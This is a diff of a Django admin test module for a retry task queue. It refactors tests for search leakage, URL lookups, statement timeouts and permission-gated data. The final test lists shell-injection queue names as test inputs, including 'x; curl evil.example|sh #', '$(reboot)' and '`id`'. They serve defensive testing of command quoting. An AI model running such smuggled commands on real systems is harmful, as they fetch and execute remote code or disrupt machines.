@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import html
 import shlex
-import string
 
 import pytest
 from django.db import connections
@@ -12,15 +11,20 @@ from django.test import override_settings
 from django.test.utils import CaptureQueriesContext
 
 from django_tasks_retry import taskqueue
-from django_tasks_retry.admin import statement_timeout
-from django_tasks_retry.admin.tasks import search
+from django_tasks_retry.admin.parts import filters
 from django_tasks_retry.models import Task, TaskEvent
+from django_tasks_retry.taskqueue import timeouts
 from tests import tasks
 from tests.admin.test_task_page import why
 
 BASE = "/admin/django_tasks_retry"
 LIST = f"{BASE}/task/"
 MESSAGE = "login failed for password=hunter2 at bank"
+LOOKUPS = (
+    "last_error__message__startswith", "kwargs__note__startswith", "args__icontains", "metadata__a", "args",
+    "outcome__result__contains", "outcome__error__icontains", "events__data__icontains", "func_path__regex",
+    "retries__kwargs__icontains", "unique_key__startswith", "id__in",
+)  # fmt: skip
 ANY_QUEUE = {"default": {"BACKEND": "django_tasks_retry.backend.RetryBackend", "QUEUES": []}}
 
 
@@ -41,8 +45,8 @@ class TestSearch:
     def test_who_may_not_see_messages_learns_nothing_of_them(self, failed, session_with):
         client = session_with("view_task")
         assert finds(client, "RuntimeError")
-        for known in ("", "pass", "password=", "bank"):
-            assert not any(finds(client, f"{known}{each}") for each in string.ascii_lowercase if known)
+        guesses = ("login", "pass", "passw", "password=", "password=h", "password=x", "hunter2", "at bank", "bank")
+        assert not any(finds(client, guess) for guess in guesses)
 
     @pytest.mark.fault("F150")
     def test_nobody_learns_what_is_hidden_from_all(self, failed, operator):
@@ -58,17 +62,10 @@ class TestSearch:
         assert asked.context["possible"] == "0"
 
     @pytest.mark.fault("F150")
-    @pytest.mark.parametrize(
-        "lookup",
-        [
-            "last_error__message__startswith", "kwargs__note__startswith", "args__icontains", "metadata__a", "args",
-            "outcome__result__contains", "outcome__error__icontains", "events__data__icontains", "func_path__regex",
-            "retries__kwargs__icontains", "unique_key__startswith", "id__in",
-        ],
-    )  # fmt: skip
-    def test_no_column_can_be_asked_for_in_the_address(self, lookup, failed, session_with):
+    def test_no_column_can_be_asked_for_in_the_address(self, failed, session_with):
         client = session_with("view_task")
-        assert client.get(LIST, {lookup: "p"}).status_code == 400
+        for lookup in LOOKUPS:
+            assert client.get(LIST, {lookup: "p"}).status_code == 400, lookup
 
     @pytest.mark.fault("F152")
     def test_its_cost_does_not_grow_with_the_number_of_words(self, failed, operator, database):
@@ -78,8 +75,8 @@ class TestSearch:
             return sum("fingerprint" in query["sql"] for query in queries)
 
         one = asked("error:a")
-        assert asked(" ".join(["error:a"] * search.MAX_WORDS)) <= one
-        assert asked(" ".join(["error:a"] * (search.MAX_WORDS + 1))) < one
+        assert asked(" ".join(["error:a"] * filters.MAX_WORDS)) <= one
+        assert asked(" ".join(["error:a"] * (filters.MAX_WORDS + 1))) < one
         assert asked("error:" + "a" * 1500) < one
 
     @pytest.mark.parametrize("text", ["error:a " * 20, "x" * 500])
@@ -91,34 +88,34 @@ class TestSearch:
 
 class TestTime:
     @pytest.mark.fault("F152")
-    @pytest.mark.parametrize("page", ["overview/", "task/?q=error:bank", "failuregroup/", "queue/", "worker/"])
-    def test_everything_that_a_request_asks_is_within_the_limit(self, page, failed, operator, monkeypatch):
-        monkeypatch.setattr(statement_timeout, "SECONDS", -100.0)
-        response = operator.get(f"{BASE}/{page}")
-        assert response.status_code == 200
-        assert "took too long" in response.content.decode()
+    def test_everything_that_a_request_asks_is_within_the_limit(self, failed, operator, monkeypatch):
+        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", -100.0)
+        for page in ("overview/", "task/?q=error:bank", "failuregroup/", "queue/", "worker/"):
+            response = operator.get(f"{BASE}/{page}")
+            assert response.status_code == 200, page
+            assert "took too long" in response.content.decode(), page
 
     @pytest.mark.fault("F152")
     def test_a_statement_that_takes_too_long_is_cancelled(self, database, monkeypatch):
-        monkeypatch.setattr(statement_timeout, "SECONDS", 0.02)
-        monkeypatch.setattr(statement_timeout, "REQUEST_SECONDS", 0.0)
+        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", 0.02)
+        monkeypatch.setattr(timeouts, "REQUEST_SECONDS", 0.0)
         numbers = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000000)"
         with (
-            pytest.raises(statement_timeout.OperationalError) as caught,
-            statement_timeout.statement_timeout(database),
+            pytest.raises(timeouts.OperationalError) as caught,
+            timeouts.statement_timeout(database),
             connections[database].cursor() as cursor,
         ):
             cursor.execute(f"{numbers} SELECT max(i) FROM n")
-        assert statement_timeout.is_timeout(caught.value)
+        assert timeouts.is_timeout(caught.value)
 
     def test_an_action_that_waits_too_long_changes_nothing_and_says_so(self, failed, operator, monkeypatch):
-        monkeypatch.setattr(statement_timeout, "SECONDS", -100.0)
+        monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", -100.0)
         response = operator.post(f"{LIST}{failed.pk}/retry/")
         assert "nothing was changed" in response.content.decode()
         assert not Task.objects.filter(retry_of=failed.pk).exists()
 
     def test_trouble_of_the_database_is_not_told_as_slowness(self):
-        assert not statement_timeout.is_timeout(statement_timeout.OperationalError("server closed the connection"))
+        assert not timeouts.is_timeout(timeouts.OperationalError("server closed the connection"))
 
 
 class TestReasons:
@@ -143,7 +140,8 @@ class TestReasons:
 
     @pytest.mark.fault("F151")
     def test_they_are_not_told_without_the_permission(self, told, session_with):
-        assert TaskEvent.objects.filter(data__reason=self.REASON).count() == 2
+        reasons = [event.data["reason"] for event in TaskEvent.objects.filter(data__has_key="reason")]
+        assert ["planted" in reason and "hunter2" not in reason for reason in reasons] == [True, True]
         shown = self.pages(session_with("view_task", "view_queue", "view_worker"))
         assert "planted" not in shown
         assert "hunter2" not in shown
@@ -156,6 +154,7 @@ class TestReasons:
 
 
 @pytest.mark.fault("F157")
+@pytest.mark.parametrize("on", ["sqlite"], indirect=True)
 @pytest.mark.parametrize("queue", ["x; curl evil.example|sh #", "$(reboot)", "a'b", "-rf", "`id`", "two words"])
 def test_a_command_to_paste_is_one_command_whatever_a_queue_is_called(queue, database, operator):
     with override_settings(TASKS=ANY_QUEUE):
